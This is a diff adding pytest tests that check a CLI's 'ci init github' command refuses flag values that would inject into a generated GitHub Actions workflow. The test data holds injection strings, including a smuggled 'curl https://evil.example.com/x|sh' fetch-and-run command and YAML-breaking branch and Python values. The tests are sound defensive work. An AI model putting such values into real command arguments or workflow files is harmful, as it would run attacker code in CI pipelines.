@@ -540,3 +540,37 @@ def test_property_malformed_preview_documents_are_invalid_input_never_a_crash(tm
     code, output = run("report-preview", str(path), "--allow-data-loss", "*", "--reason", "property test")
     assert code in (0, 2, 3, 4), output
     assert "internal error" not in output and "Traceback" not in output
+
+
+# --- 11. `ci init github` writes only checked flags ---------------------------------------------------
+
+@pytest.mark.parametrize("flags, fragment", [
+    (["--parity", "staging:prod; curl https://evil.example.com/x|sh #"], "no environment"),
+    (["--parity", "nosuch:prod"], "no environment 'nosuch'"),
+    (["--parity", "prod:prod"], "itself"),
+    (["--branch", "main\n    - evil"], "--branch"),
+    (["--branch", "main'; echo"], "--branch"),
+    (["--python", "3.11\"\n  run: evil"], "--python"),
+    (["--environments", "1dev"], "no such environment"),
+])
+def test_ci_init_refuses_flags_that_would_inject_into_a_workflow(tmp_path, flags, fragment):
+    code, output = run("ci", "init", "github", "--dir", str(tmp_path), "--environments", "staging,prod", *flags)
+    assert code == 2 and fragment in output, output
+    assert not (tmp_path / ".github").exists()
+
+
+def test_environment_names_must_make_valid_job_outputs():
+    from stacks.commands import ci
+
+    with pytest.raises(Exception, match="must start with a letter"):
+        ci._job_names(["1dev"])
+    assert ci._job_names(["dev", "staging-eu"]) == ["dev", "staging-eu"]
+
+
+@FEW
+@given(st.text(alphabet="ab1.-/'\" ;|\n{}$@", min_size=1, max_size=10))
+def test_property_only_plain_branch_names_reach_a_workflow(branch):
+    from stacks.commands import ci
+
+    if ci._BRANCH.match(branch):
+        assert not any(c in branch for c in "'\" ;|\n{}$@") and ".." not in branch
